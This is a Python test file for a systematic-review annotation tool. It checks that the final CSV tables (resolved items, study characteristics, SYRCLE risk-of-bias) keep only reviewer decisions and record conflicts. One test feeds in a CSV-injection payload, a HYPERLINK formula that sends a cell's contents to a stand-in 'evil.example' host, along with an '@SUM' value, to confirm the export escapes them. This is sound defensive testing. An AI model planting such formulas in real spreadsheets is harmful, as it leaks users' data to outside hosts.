"""The final tables hold what people decided, name what is open, and nothing that only a machine said."""

from __future__ import annotations

import csv
import io

from vivex.annotation import SYRCLE_ITEMS, Annotation, find_quote
from vivex.codebook import read_codebook
from vivex.people import final
from vivex.people.importing import take_in
from vivex.people.machine import document
from vivex.people.resolve import resolved
from vivex.people.store import Session

STUDY = "ames-2019"


def say(review, who, label, value, quote="", decision="added"):
    """Let a reviewer answer a label."""
    proof = (find_quote(quote, document(review, STUDY)),) if quote else ()
    made = Annotation(STUDY, label, value, proof, f"reviewer:{who}", None, decision=decision)
    take_in(review, who, [made], Session("w.xlsx", "", True))


def rows(text):
    """Return the rows of a CSV as dicts."""
    return list(csv.DictReader(io.StringIO(text)))


def test_the_tables(review):
    say(review, "mk", "form.dose", "10 mg/kg", "agomir at 10 mg/kg")
    say(review, "th", "form.dose", "10mg/kg")
    say(review, "mk", "form.route", "i.v.")
    say(review, "th", "form.route", "i.p.")
    say(review, "mk", "form.age", "8 weeks", decision="rejected")
    say(review, "mk", "form.n_total", 0)
    say(review, "mk", "reporting.randomisation", {"reported": True}, "Rats were randomly divided")
    for item, word in zip(SYRCLE_ITEMS, ["low", "high", "unclear"] * 4, strict=False):
        say(review, "mk", f"syrcle.{item}", {"judgement": word})
    items = resolved(review)
    by_item = {r["item"]: r for r in rows(final.resolved_csv(items))}
    assert by_item["form.dose"]["value"] == "10 mg/kg"
    assert by_item["form.dose"]["evidence"] == "agomir at 10 mg/kg"
    assert by_item["form.dose"]["state"] == "unanimous"
    assert by_item["form.age"]["value"] == "not reported"
    assert by_item["form.n_total"]["value"] == "0"
    assert by_item["reporting.randomisation"]["value"] == "yes"
    assert "form.route" not in by_item
    (line,) = rows(final.characteristics_csv(items, read_codebook(review.codebook)))
    assert (line["dose"], line["route"], line["age"], line["species"]) == ("10 mg/kg", "conflict", "not reported", "")
    (line,) = rows(final.syrcle_csv(items))
    assert list(line.values())[:4] == [STUDY, "Low", "High", "Unclear"]
    assert len(line) == 11
    final.write(items, read_codebook(review.codebook), review.outputs / "final")
    assert "i.p." in (review.outputs / "final" / "conflicts.csv").read_text(encoding="utf-8")


def test_no_table_holds_a_formula(review):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    for label in ("form.dose", "form.route"):
        say(review, "mk", label, hostile)
    say(review, "th", "form.route", "@SUM(A1)")
    out = review.outputs / "final"
    final.write(resolved(review), read_codebook(review.codebook), out)
    cells = [
        cell
        for path in out.glob("*.csv")
        for line in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline=""))
        for cell in line
    ]
    assert "'" + hostile in cells
    assert not [cell for cell in cells if cell.startswith(("=", "@"))]
    assert (out / "resolved.csv").read_bytes().startswith("\ufeff".encode())
    assert not (out / "syrcle.csv").read_bytes().startswith("\ufeff".encode())
